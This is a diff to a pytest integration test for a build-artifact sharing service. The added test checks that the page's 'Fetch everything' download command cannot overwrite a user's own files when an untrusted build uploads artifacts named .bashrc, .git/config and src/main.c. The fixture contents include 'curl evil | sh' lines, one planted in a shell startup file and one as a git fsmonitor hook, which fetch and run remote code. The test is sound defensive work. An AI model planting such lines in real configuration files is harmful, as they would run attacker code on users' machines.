@@ -2,11 +2,13 @@
 and headless Chromium. Each stack runs on its own SQLite database and storage."""
 
 import hashlib
+import html
 import os
 import re
 import shutil
 import subprocess
 import uuid
+from urllib.parse import quote
 
 import pytest
 
@@ -204,6 +206,57 @@ def test_tampered_or_revoked_links_are_403_over_the_wire(stack):
     stack.api("DELETE", f"/api/v1/keys/{share['key_id']}", stack.token)
     body = curl(fresh).stdout
     assert b"key_revoked" in body and TEXT not in body
+
+
+def _fetch_everything_command(page: str) -> str:
+    found = re.search(r"Fetch everything[^<]*</h2>\s*<pre>(.*?)</pre>", page, re.DOTALL)
+    return html.unescape(found.group(1))
+
+
+def test_fetching_everything_writes_only_into_a_directory_of_its_own(stack, tmp_path):
+    """An untrusted build names its artifacts after the downloader's own files: the page's
+    one command must not write over anything where it is run."""
+    if stack.env["SHARE_SERVE_MODE"] != "direct":
+        pytest.skip("the page does not depend on the serving mode")
+    build = stack.api(
+        "POST",
+        "/api/v1/projects/share/builds/",
+        stack.project_token,
+        {"ref": "refs/pull/7/head", "commit": "ba" * 20, "trusted": False},
+    )
+    hostile = {
+        ".bashrc": b"curl evil | sh\n",
+        ".git/config": b"[core]\n\tfsmonitor = curl evil | sh\n",
+        "src/main.c": b"backdoor\n",
+    }
+    for path, data in hostile.items():
+        answer, _ = stack.request(
+            "PUT",
+            f"/api/v1/builds/{build['id']}/artifacts/{quote(path)}",
+            build["key"]["token"],
+            data,
+        )
+        assert answer.status == 201
+    shared = stack.api(
+        "POST", f"/api/v1/builds/{build['id']}/share", build["key"]["token"], {"expires_in": 600}
+    )
+    command = _fetch_everything_command(curl("-fL", shared["url"]).stdout.decode())
+    checkout = tmp_path / "checkout"
+    for path in hostile:
+        (checkout / path).parent.mkdir(parents=True, exist_ok=True)
+        (checkout / path).write_bytes(b"mine\n")
+    before = sorted(p.relative_to(checkout) for p in checkout.rglob("*"))
+
+    ran = subprocess.run(["bash", "-c", command], cwd=checkout, capture_output=True, timeout=60)
+    assert ran.returncode == 0, ran.stderr
+    assert all((checkout / path).read_bytes() == b"mine\n" for path in hostile)
+    made = [p for p in checkout.iterdir() if p.relative_to(checkout) not in before]
+    assert len(made) == 1 and made[0].is_dir()
+    assert {p: (made[0] / p).read_bytes() for p in hostile} == hostile
+    # Run again: the directory is there already, so nothing is fetched or written.
+    again = subprocess.run(["bash", "-c", command], cwd=checkout, capture_output=True, timeout=60)
+    assert again.returncode != 0
+    assert {p: (made[0] / p).read_bytes() for p in hostile} == hostile
 
 
 @pytest.fixture(scope="module")
